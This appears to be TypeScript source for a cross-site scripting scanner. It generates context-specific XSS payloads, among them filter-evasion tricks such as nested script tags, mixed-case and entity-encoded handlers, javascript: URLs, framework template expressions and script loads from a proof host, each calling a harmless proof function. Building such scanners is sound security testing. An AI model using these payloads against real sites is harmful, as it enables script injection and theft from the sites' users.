import { PROOF_FUNCTION, PROOF_HOST } from '../check.ts';
import { type Context, holdsNoMarkup } from './contexts.ts';
import { percentEncoded, type Reflection } from './probe.ts';
import type { ScriptState } from './script-state.ts';

/** A value that would run in its place, if nothing on the way changes it. */
export interface Candidate {
  value(mark: string): string;
  /** It waits for what a person does: a click, the mouse, the focus. */
  readonly interact: boolean;
  /** Scripts of the page make it run: whether they do, the page's text alone does not tell. */
  readonly unread: boolean;
  /** Its mark has three letters, for what is cut. */
  readonly short?: boolean;
  /** Takes in what the page shows behind it: not to be left where others see it. */
  readonly swallows?: boolean;
}

/** A way out of a place: `call` is the script to be run. */
interface Shape {
  readonly make: (call: string) => string;
  readonly interact?: boolean;
  /** The browser undoes entities there before it reads the value: escaping them helps nobody. */
  readonly entitiesUndone?: boolean;
  /** The call stands in an attribute, where it may be written with entities of our own. */
  readonly inAttribute?: boolean;
  /** A script undoes its own escapes (`\\u003c`) before it hands the value on. */
  readonly escapesUndone?: boolean;
  readonly unread?: boolean;
  /** This character may come back with a backslash before it. */
  readonly backslashed?: string;
  readonly swallows?: boolean;
  /** The one way to call the proof from there. */
  readonly call?: Call;
}

type Call = (mark: string) => string;

/** Ways to call the proof, by the characters they need. */
const CALLS: readonly Call[] = [
  (mark) => `${PROOF_FUNCTION}(/${mark}/)`,
  (mark) => `${PROOF_FUNCTION}\`${mark}\``,
  (mark) => `${PROOF_FUNCTION}('${mark}')`,
  (mark) => `${PROOF_FUNCTION}("${mark}")`,
  (mark) => `location='javascript:${PROOF_FUNCTION}%28/${mark}/%29'`,
];
const entities = (text: string, which: RegExp) =>
  text.replaceAll(which, (character) => `&#${character.codePointAt(0)};`);
const ENTITY_CALLS: readonly Call[] = [
  (mark) => `${PROOF_FUNCTION}${entities(`('${mark}')`, /[()']/g)}`,
  (mark) => entities(`${PROOF_FUNCTION}('${mark}')`, /[^0-9]/g),
];
/** Nothing of it has a case. */
const CASELESS_CALL: Call = (mark) => entities(`${PROOF_FUNCTION}('${mark}')`, /./g);

/** The address of a script that calls the proof. Without a scheme: a filter of `javascript:` and of colons lets it pass. */
const SCRIPT_ADDRESS: Call = (mark) => `//${PROOF_HOST}/${mark}`;

/** For functions that replace what they meet first and nothing after it: a bracket, or an element with an attribute. */
const SPENT = '<x y>';

/** Markup that runs by itself, the likely first; each of the others gets past a filter that knows the ones before it. */
const MARKUP: readonly Shape[] = [
  { make: (call) => `<img src=x onerror=${call}>`, inAttribute: true },
  { make: (call) => `<svg/onload=${call}>`, inAttribute: true },
  { make: (call) => `<script>${call}</script>` },
  // Never closed: filters of whole tags see none.
  { make: (call) => `<img src=x onerror=${call} x=`, inAttribute: true, swallows: true },
  // Neither a handler nor a script, as far as filters read it.
  { make: (call) => `<iframe srcdoc=${entities(`<img src=x onerror=${call}>`, /[^0-9]/g)}></iframe>` },
  { make: (call) => `<scr<script>ipt>${call}</scr</script>ipt>` },
  { make: (call) => `<DeTaIlS oPeN oNtOgGlE=${call}>x`, inAttribute: true },
  // Neither closed, nor with a blank in it.
  { make: (call) => `<svg/onload=${call}//`, inAttribute: true, swallows: true },
  // Once `onx=` is taken out, a handler is left.
  { make: (call) => `<img src=x oonx=nerror=${call}>`, inAttribute: true },
  // What is taken out or escaped the first time only is the pair in front.
  { make: (call) => `${SPENT}<img src=x onerror=${call}>`, inAttribute: true },
  // No list of elements has it.
  { make: (call) => `<x tabindex=1 autofocus onfocus=${call}>x`, inAttribute: true },
  { make: (call) => `<input autofocus onfocus=${call}>`, inAttribute: true },
  { make: (call) => `<img\nsrc=x\nonerror\n=${call}\n>`, inAttribute: true },
  { make: (call) => `<a href=javascript:${call}>x</a>`, inAttribute: true, interact: true },
  { make: (call) => `<im<b>g src=x onerror=${call}>`, inAttribute: true },
  { make: (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`, inAttribute: true },
  { make: (call) => `<iframe srcdoc="<img src=x onerror=${call}>"></iframe>`, inAttribute: true },
  { make: (call) => `<ScRiPt>${call}</sCrIpT>` },
  { make: (call) => `<audio src=x onerror=${call}>`, inAttribute: true },
  { make: (call) => `<body onpageshow=${call}>`, inAttribute: true },
  { make: (call) => `<form><button formaction=javascript:${call}>x`, inAttribute: true, interact: true },
  { make: (call) => `<math><a xlink:href=javascript:${call}>x`, inAttribute: true, interact: true },
];

/** All that lives between frames. */
const FRAMES: readonly Shape[] = [
  { make: (call) => `<frame onload=${call}>`, inAttribute: true },
  { make: (call) => `<frame src=javascript:${call}>`, inAttribute: true },
];

/** Documents that are XML: names have their namespace, values their quotes. */
const XML_MARKUP: readonly Shape[] = [
  { make: (call) => `<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>` },
  { make: (call) => `<script>${call}</script>` },
  { make: (call) => `<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`, inAttribute: true },
];

/** Marks of frameworks that read expressions out of the page. */
export const EVALUATES =
  /\b(?:data-)?ng-(?:app|controller|bind|init)\b|\bv-(?:if|for|bind|model|html|on|cloak)\b|new Vue\(|createApp\(|\bx-data\b/;

/** In double braces, as frameworks of the browser have it. From any value there is a way to the maker of functions. */
const EXPRESSION: Shape = {
  make: (call) => `{{constructor.constructor('${call}')()}}`,
  entitiesUndone: true,
  unread: true,
};

/** Elements that load something, and tell their handlers by themselves. */
const LOADING = new Set([
  'img',
  'image',
  'video',
  'audio',
  'script',
  'link',
  'iframe',
  'embed',
  'object',
  'body',
  'svg',
  'style',
]);

interface Where {
  readonly context: Context;
  readonly reflection: Reflection;
  /** The document is XML: SVG, XHTML. */
  readonly xml?: boolean;
  /** A framework in the page evaluates expressions in its markup. */
  readonly expressions?: boolean;
  /** The scripts of the page, if strings in them become something else. */
  readonly scripts?: string;
}

/** Values to try for one place, the likely first. Empty: what is escaped there is what counts there. */
export function candidatesFor(where: Where): Candidate[] {
  const { context, xml = false, expressions = false, scripts = '' } = where;
  const { firstOnly } = where.reflection;
  const reflection = firstOnly ? withBrackets(where.reflection) : where.reflection;
  const begin = firstOnly ? SPENT : '';
  const isEvaluated = expressions && (context.kind === 'text' || context.kind === 'attribute');
  const usual = [...sinkShapes(context, scripts), ...shapesFor(context, reflection), ...handedOn(context, scripts)];
  const undone = entityShapes(context, reflection);
  const inMarkup = [...(isEvaluated ? [EXPRESSION] : []), ...usual.slice(0, 4), ...undone, ...usual.slice(4)];
  const shapes = xml ? xmlShapes(context) : inMarkup;
  const usesLeftOut = ({ value }: Candidate) => Number([...value('m')].some((sign) => reflection.leftOut.has(sign)));
  const candidates = shapes.flatMap((shape, index) => {
    const fitting = callsFor(shape, reflection).filter((form) => fits(shape.make(form('m')), shape, reflection));
    const calls = reflection.isKnown ? fitting.slice(0, 1) : guessCalls(fitting, index);
    return calls.map((call) => {
      const value = (mark: string) => begin + shape.make(call(mark));
      return {
        value: reflection.decodesAgain ? (mark: string) => percentEncoded(value(mark)) : value,
        interact: shape.interact === true,
        unread: shape.unread === true,
        ...(shape.swallows && { swallows: true }),
      };
    });
  });
  return reflection.leftOut.size === 0
    ? candidates
    : candidates.toSorted((one, other) => usesLeftOut(one) - usesLeftOut(other));
}

const withBrackets = (reflection: Reflection): Reflection => ({
  ...reflection,
  treatmentOf: (character) => ('<>'.includes(character) ? 'same' : reflection.treatmentOf(character)),
});

/** Tags are taken out, with all that follows one that is not closed, and entities left alone: they may be undone afterwards. */
function entityShapes({ kind }: Context, { isKnown, treatmentOf }: Reflection): Shape[] {
  const isTakenOut = treatmentOf('<') === 'changed' || (treatmentOf('<') === 'unknown' && treatmentOf('>') === 'same');
  if (kind !== 'text' || !isKnown || !isTakenOut || !['same', 'unknown'].includes(treatmentOf('&'))) return [];
  return [{ make: (call) => `&lt;img src=x onerror=${call}&gt;`, inAttribute: true }];
}

/** Where nothing is known of other signs than letters, those of the usual call may be what is refused. */
function guessCalls(calls: readonly Call[], index: number): readonly Call[] {
  const [usual, ticks, ...others] = calls;
  const chosen = index === 0 ? [usual, ticks, others.at(-1)] : [index % 2 === 0 ? usual : (ticks ?? usual)];
  return chosen.filter((call) => call !== undefined);
}

/** No token holds one of these, so that no call of another value is taken for it. */
export const shortMark = () =>
  Array.from({ length: 3 }, () => 'ghkmnpqtvwxz'.charAt(Math.floor(Math.random() * 12))).join('');
const ANY_SHORT = 'xxx';

export const shortLengthOf = ({ value }: Pick<Candidate, 'value'>) => value(ANY_SHORT).length;

/** The same values with short marks, the shortest first. */
export const shortest = (candidates: readonly Candidate[]): Candidate[] =>
  candidates
    .map((candidate) => ({ ...candidate, short: true }))
    .toSorted((one, other) => shortLengthOf(one) - shortLengthOf(other));

function callsFor(shape: Shape, { sameCase }: Reflection): readonly Call[] {
  if (shape.call) return sameCase ? [shape.call] : [];
  const undone = shape.inAttribute || shape.entitiesUndone;
  if (!sameCase) return undone ? [CASELESS_CALL] : [];
  return undone ? [...CALLS, ...ENTITY_CALLS] : CALLS;
}

/** Whether every character it needs comes through. What is not known may. */
function fits(value: string, shape: Shape, { treatmentOf, decodesAgain }: Reflection): boolean {
  if (decodesAgain) return true;
  return [...value].every((character) => {
    const treatment = treatmentOf(character);
    if (treatment === 'entity') return shape.entitiesUndone === true;
    if (treatment === 'backslash') return shape.backslashed === character;
    if (treatment === 'escape') return shape.escapesUndone === true;
    return treatment !== 'changed';
  });
}

const after = (prefix: string, shapes: readonly Shape[]): Shape[] =>
  shapes.map((shape) => ({ ...shape, make: (call) => prefix + shape.make(call) }));

function shapesFor(context: Context, reflection: Reflection): readonly Shape[] {
  switch (context.kind) {
    case 'text':
      if (context.within.includes('frameset')) return FRAMES;
      return context.within.length === 0 ? MARKUP : after(context.within.map((name) => `</${name}>`).join(''), MARKUP);
    case 'raw text':
      return after(`</${context.element}>`, MARKUP);
    case 'comment':
      return [
        ...after('-->', MARKUP.slice(0, 6)),
        ...after('--!>', MARKUP.slice(0, 2)),
        ...after('>', MARKUP.slice(0, 1)),
      ];
    case 'script':
      return [...scriptShapes(context.state, reflection), ...after('</script>', MARKUP)];
    case 'tag name':
      if (context.closing) return after('x>', MARKUP);
      return context.atStart
        ? [{ make: (call) => `img src=x onerror=${call} x`, inAttribute: true }, ...after('x>', MARKUP)]
        : [...handlerShapes('x', '', false, reflection), ...after('x>', MARKUP)];
    case 'attribute name':
      return [...handlerShapes(context.element, '', false, reflection), ...after('x>', MARKUP)];
    case 'attribute':
      return attributeShapes(context, reflection);
  }
}

function attributeShapes(context: Context & { kind: 'attribute' }, reflection: Reflection): Shape[] {
  const { element, quote, role, atStart, state, hidden } = context;
  const inValue: Shape[] = [];
  if (state)
    for (const shape of scriptShapes(state, reflection)) {
      inValue.push({ ...shape, entitiesUndone: true, interact: true });
      // What is taken out or escaped for the script alone comes as an entity, which nobody looked for.
      inValue.push({
        make: (call) => entities(shape.make(call), /["'()\\`<>]/g),
        entitiesUndone: true,
        interact: true,
      });
    }
  else if (role === 'url' && atStart) inValue.push(...addressShapes(element));
  else if (role === 'markup') inValue.push(...MARKUP.map((shape) => ({ ...shape, entitiesUndone: true })));
  const [likely, ...values] = inValue;
  const [handler, ...handlers] = handlerShapes(element, quote, hidden, reflection);
  const end = holdsNoMarkup(element) ? `</${element}>` : '';
  // A backslash escapes nothing in markup: the quote behind it ends the value.
  // Twice, where one quote alone would end the string of a statement before the page is made: markup does not mind.
  const out = quote === '' ? 'x' : quote === "'" ? "''" : quote;
  const [tag, ...tags] = after(`${out}>${end}`, MARKUP).map((shape): Shape => ({ ...shape, backslashed: quote }));
  const firsts = [likely, tag, handler].filter((shape) => shape !== undefined);
  return [...firsts, ...values, ...handlers, ...tags];
}

function addressShapes(element: string): Shape[] {
  if (element === 'script')
    return [
      { make: (call) => `data:text/javascript,${call}`, entitiesUndone: true },
      { make: (address) => address, entitiesUndone: true, call: SCRIPT_ADDRESS },
    ];
  // What the page loads by relative addresses then comes from there.
  if (element === 'base') return [{ make: (address) => `${address}/`, entitiesUndone: true, call: SCRIPT_ADDRESS }];
  const forms: Array<(call: string) => string> = [
    (call) => `javascript:${call}`,
    // What the page writes behind the value is a comment then.
    (call) => `javascript:${call}//`,
    (call) => `JaVaScRiPt:${call}`,
    (call) => `java\tscript:${call}`,
    (call) => `javascript://x/%0a${call}`,
    (call) => `\u0001javascript:${call}`,
  ];
  const entity: Shape = {
    make: (call) => `${entities('javascript', /[a-z]/g)}:${call}`,
    inAttribute: true,
    interact: true,
  };
  return [...forms.map((make): Shape => ({ make, entitiesUndone: true, interact: true })), entity];
}

/** What scripts make of strings: code, an address to go to, markup. */
const BECOMES_CODE = /\b(?:eval|setTimeout|setInterval|Function|execScript)\s*\(/;
const BECOMES_ADDRESS = /\blocation(?:\.href)?\s*=[^=]|\blocation\.(?:assign|replace)\s*\(|\bopen\s*\(/;
const BECOMES_MARKUP = /\b(?:innerHTML|outerHTML|insertAdjacentHTML|document\.write(?:ln)?|html|append|prepend)\b/;

/** Scripts that take what stands in the page, decoded by then, and make markup of it. */
const READS_PAGE =
  /\.(?:dataset|value|textContent|innerText)\b|getAttribute\s*\(|JSON\.parse\s*\(|\.(?:attr|val|data|text)\s*\(/;
const WRITES_MARKUP =
  /\b(?:innerHTML|outerHTML)\s*\+?=|\binsertAdjacentHTML\b|\bdocument\.write|\.(?:html|append|prepend)\s*\(/;

const HANDED_ON: Shape = {
  make: (call) => `<img src=x onerror=${call}>`,
  entitiesUndone: true,
  escapesUndone: true,
  unread: true,
};

/** A string need not end for what stands in it to run, where a script hands it on. */
function sinkShapes(context: Context, scripts: string): Shape[] {
  if (context.kind !== 'script' || !/^(?:single|double|template)$/.test(context.state.part)) return [];
  const shapes: Shape[] = [];
  if (BECOMES_CODE.test(scripts)) shapes.push({ make: (call) => call, unread: true });
  if (BECOMES_ADDRESS.test(scripts)) shapes.push({ make: (call) => `javascript:${call}`, unread: true });
  // A filter that looks for tags does not see them in escapes, which the script decodes itself.
  if (BECOMES_MARKUP.test(scripts))
    shapes.push({ make: (call) => `\\x3cimg src=x onerror=${call}\\x3e`, unread: true }, HANDED_ON);
  return shapes;
}

/** For what is harmless where it stands, until a script of the page reads it there. */
const handedOn = ({ kind }: Context, scripts: string): Shape[] =>
  kind !== 'script' && READS_PAGE.test(scripts) && WRITES_MARKUP.test(scripts) ? [HANDED_ON] : [];

/** A handler of our own in the element the value stands in. */
function handlerShapes(element: string, quote: string, hidden: boolean, { treatmentOf }: Reflection): Shape[] {
  const end = quote === '' ? 'x' : quote;
  const tail = quote === '' ? ' x' : ` x=${quote}`;
  const own = (attributes: (call: string) => string, interact = false): Shape => ({
    make: (call) => `${end} ${attributes(call)}${tail}`,
    inAttribute: true,
    interact,
    backslashed: quote,
  });
  const focus = own((call) => `autofocus tabindex=1 onfocus=${call}`, true);
  const load = own((call) => `onerror=${call} onload=${call}`);
  const mouse = own((call) => `onmouseover=${call} onclick=${call}`, true);
  const seen = own((call) => `oncontentvisibilityautostatechange=${call} style=content-visibility:auto`);
  const key = own((call) => `accesskey=x onclick=${call}`, true);
  // Without blanks: other white space ends an attribute as well.
  const noBlanks: Shape[] = [focus, load].map((shape) => ({
    ...shape,
    make: (call: string) => shape.make(call).replaceAll(' ', '\f'),
  }));
  if (hidden) return [seen, key];
  const nested: Shape[] = [
    // Once `on`, or a whole handler, is taken out, a handler is left.
    own((call) => `autofocus tabindex=1 oonnfocus=${call}`, true),
    own((call) => `autofocus tabindex=1 oonx=nfocus=${call}`, true),
  ];
  // Behind a quote the next attribute needs no white space.
  if (quote !== '')
    noBlanks.push({
      make: (call) => `${quote}onfocus=${quote}${call}${quote}tabindex=${quote}1${quote}autofocus=${quote}`,
      inAttribute: true,
      interact: true,
      backslashed: quote,
    });
  const usual = LOADING.has(element) ? [load, focus, mouse] : [focus, mouse, load];
  return [...usual, ...(treatmentOf(' ') === 'same' ? [] : noBlanks), ...nested];
}

/** A member of a value, and an error in SQL: where the value is stored, no statement must end before its condition. */
const NO_SQL = '.x';

/** Ways from a place in a script to code that runs, with what is around it left whole where that is possible. */
function scriptShapes({ part, closers }: ScriptState, { treatmentOf }: Reflection): Shape[] {
  const closed = (end: string): Shape[] => (closers === '' ? [] : [{ make: (call) => `${end}${closers};${call}//` }]);
  switch (part) {
    case 'single':
    case 'double': {
      const quote = part === 'single' ? "'" : '"';
      const plain: Shape[] = [
        { make: (call) => `${quote}-${call}-${quote}` },
        { make: (call) => `${quote}${NO_SQL};${call}//` },
        ...closed(`${quote}${NO_SQL}`),
      ];
      // A backslash before our quote is undone by one of our own before it.
      const escaped = treatmentOf(quote) === 'backslash' && treatmentOf('\\') === 'same';
      const undone: Shape[] = [`-`, ';', `${closers};`].map((between) => ({
        make: (call) => `\\${quote}${between}${call}//`,
        backslashed: quote,
      }));
      return escaped ? undone : plain;
    }
    case 'template':
      return [{ make: (call) => `\${${call}}` }, { make: (call) => `\`-${call}-\`` }, ...closed('`')];
    case 'line comment':
      return [{ make: (call) => `\n${call}//` }, { make: (call) => `\u2028${call}//` }];
    case 'block comment':
      return [{ make: (call) => `*/${call}/*` }, { make: (call) => `*/;${call}//` }];
    case 'regex':
      return [{ make: (call) => `x/-${call}-/x` }, { make: (call) => `x/;${call}//` }, ...closed('x/')];
    case 'code':
      return [
        { make: (call) => call },
        { make: (call) => `1 ${NO_SQL};${call}//` },
        { make: (call) => `;${call}//` },
        ...closed(`1 ${NO_SQL}`),
      ];
  }
}

/** Links as texts are written that become markup only afterwards. Parentheses would end the address. */
export function markedLinks(mark: string): string {
  const address = `javascript:${PROOF_FUNCTION}%28/${mark}/%29`;
  return `[a](${address}) [url=${address}]a[/url]`;
}

/** Pages that tell how such texts are written. */
export const WRITES_LINKS = /\bmarkdown\b|\bbb-?code\b|\[url[=\]]/i;

function xmlShapes(context: Context): Shape[] {
  if (context.kind === 'attribute') return after(`${context.quote}/>`, XML_MARKUP);
  if (context.kind === 'comment') return after('-->', XML_MARKUP);
  return [...XML_MARKUP, ...after(']]>', XML_MARKUP)];
}
